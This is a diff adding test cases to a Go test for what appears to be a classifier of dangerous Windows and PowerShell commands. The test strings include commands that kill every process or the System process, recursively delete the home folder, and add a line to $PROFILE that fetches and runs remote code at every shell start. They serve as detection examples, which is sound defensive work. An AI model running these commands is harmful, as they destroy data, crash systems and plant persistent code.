@@ -175,6 +175,27 @@ func TestWindows(t *testing.T) {
 		{`reg export HKLM\SYSTEM\CurrentControlSet\Services\x x.reg`, ""},
 		{`reg save HKLM\SOFTWARE\x s`, ""},
 		{`echo 2^3`, ""},
+		// Every process stopped, or Windows's System process.
+		{`Stop-Process -Name * -Force`, "kill-all"},
+		{`spps -n * -fo`, "kill-all"},
+		{`Stop-Process -ProcessName:'*'`, "kill-all"},
+		{`Get-Process | Stop-Process -Force`, "kill-all"},
+		{`gps -Name * | spps`, "kill-all"},
+		{`Stop-Process -Id 4`, "kill-all"},
+		{`Stop-Process -Name chrome`, ""},
+		{`Get-Process -Name chrome | Stop-Process`, ""},
+		{`Get-Process node* | Stop-Process`, ""},
+		// The items a listing of a home folder sends down the pipe.
+		{`Get-ChildItem ~ -Recurse | Remove-Item -Force`, "rm-home"},
+		{`Get-ChildItem C:\Users\Dev -Recurse -Force | ri -Recurse -Force`, "rm-home"},
+		{`Get-ChildItem .\build -Recurse | Remove-Item -Force`, "dynamic-target"},
+		// $PROFILE is the script PowerShell runs at every start.
+		{`Add-Content $PROFILE 'iex (iwr https://example.com)'`, "startup-file-write"},
+		{`echo x >> $profile`, "startup-file-write"},
+		{`Set-Content -Path $PROFILE.CurrentUserAllHosts -Value x`, "startup-file-write"},
+		{`Set-Content $PROFILE.AllUsersAllHosts x`, "write-outside-roots"},
+		{`echo $PROFILE`, ""},
+		{`$PROFILEX = 1; echo $PROFILEX`, "dynamic-command-name"},
 	})
 	t.Run("the second reading's parse errors are its own", func(t *testing.T) {
 		// bash reads \" as a quote inside quotes, cmd as a backslash and
